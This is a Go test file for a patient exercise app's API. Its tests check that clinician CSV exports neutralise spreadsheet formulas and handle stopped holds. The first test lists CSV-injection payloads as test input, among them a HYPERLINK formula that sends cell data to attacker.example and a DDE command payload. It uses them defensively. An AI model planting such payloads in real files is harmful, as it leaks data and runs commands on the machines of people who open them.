package http_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"testing"
)

// TestExportCSVNeutralisesFormulas: measure names and units a patient's
// client sent that a spreadsheet would run as formulas (= + - @, tab,
// carriage return first) reach the clinician's CSV with a leading
// apostrophe; negative numbers stay numbers.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	f := newFixture(t)
	hostile := []string{`=HYPERLINK("http://attacker.example/?d="&A1,"Click")`, "+cmd|'/C calc'!A0", "-2+3+cmd", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"}
	measures := ""
	for i, name := range hostile {
		measures += fmt.Sprintf(`%s{"name":%q,"value":-12.5,"unit":%q}`, map[bool]string{true: "", false: ","}[i == 0], name, name)
	}
	f.post(f.a, "/api/v1/sessions", []byte(`{"started_at":"2026-11-22T08:00:00Z","pain_before":1,"leg_pain_before":0,"sets":[{"exercise":"bird-dog","hold_s":10,"intensity":2,"pain":1,"measures":[`+measures+`]}]}`))
	rows := exportCSV(t, f)
	found := 0
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && bytes.ContainsRune([]byte("=+-@\t\r"), rune(cell[0])) && cell != "-12.5" {
				t.Errorf("row %q column %s: cell %q would run as a formula", row, rows[0][i], cell)
			}
		}
		for _, name := range hostile {
			if row[4] == "'"+name {
				found++
				if row[6] != "-12.5" || row[7] != "'"+name {
					t.Errorf("row %q: value %q unit %q, want -12.5 and the neutralised unit", row, row[6], row[7])
				}
			}
		}
	}
	if found != len(hostile) {
		t.Errorf("found %d of the %d hostile measures, neutralised, in the CSV:\n%q", found, len(hostile), rows)
	}
}

// TestExportsWithAStoppedHold: a session whose hold was stopped before
// the pain was asked (an aborted set: no pain, no intensity stored) is
// exported with its measures and without pain rows, in the CSV and in
// FHIR. (Both exports answered 500: a nil pain was dereferenced.)
func TestExportsWithAStoppedHold(t *testing.T) {
	f := newFixture(t)
	f.post(f.a, "/api/v1/sessions", []byte(`{"started_at":"2026-11-22T08:00:00Z","pain_before":1,"leg_pain_before":0,"stopped_reason":"You stopped the session.",`+
		`"sets":[{"exercise":"bird-dog","hold_s":4,"aborted":true,"measures":[{"name":"hold_good_form_s","value":3.5,"unit":"s"}]}],"events":[{"kind":"set_started","t":0,"exercise":"bird-dog"}]}`))
	rows := exportCSV(t, f)
	measure := false
	for _, row := range rows[1:] {
		if row[0] == "2026-11-22T08:00:00Z" && (row[4] == "pain_nprs" || row[4] == "intensity") {
			t.Errorf("a stopped hold exported with %s = %s", row[4], row[6])
		}
		measure = measure || (row[1] == "session" && row[4] == "hold_good_form_s" && row[6] == "3.5")
	}
	if !measure {
		t.Errorf("the stopped hold's measure is not in the CSV: %q", rows)
	}
	if r := f.do(req{method: "GET", path: fmt.Sprintf("/api/v1/patients/%d/fhir", f.a.user.ID), token: f.c.token}); r.status != 200 {
		t.Fatalf("fhir: %d %s", r.status, r.body)
	}
}

// exportCSV is the clinician's CSV of patient a, as rows.
func exportCSV(t *testing.T, f *fixture) [][]string {
	t.Helper()
	r := f.do(req{method: "GET", path: fmt.Sprintf("/api/v1/patients/%d/export.csv", f.a.user.ID), token: f.c.token})
	if r.status != 200 {
		t.Fatalf("export.csv: %d %s", r.status, r.body)
	}
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}
